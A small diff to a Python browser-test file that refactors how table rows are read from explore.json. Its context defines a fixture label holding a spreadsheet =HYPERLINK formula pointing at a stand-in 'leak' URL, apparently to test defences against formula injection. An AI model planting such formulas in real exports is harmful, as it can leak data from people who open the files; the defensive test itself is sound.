@@ -27,6 +27,7 @@ from tools.synthetic import generate
 
 from browser_waits import still
 from conftest import ROOT, WIDTHS, fixture_layout
+from test_explore import unpack
 
 READY = "#explore-table[data-ready]"
 HOSTILE_LABEL = '=HYPERLINK("http://x.example/?leak","open me")'
@@ -51,7 +52,7 @@ READ_SETS = """(queries) => queries.map(query => {
 
 def rows_of(site: Path) -> tuple[dict, list[dict]]:
     data = json.loads((site / "data" / "explore.json").read_text(encoding="utf-8"))
-    return data, [dict(zip(data["fields"], raw)) for raw in data["rows"]]
+    return data, list(unpack(data).values())
 
 
 def eligible(row: dict, measure: str) -> bool:
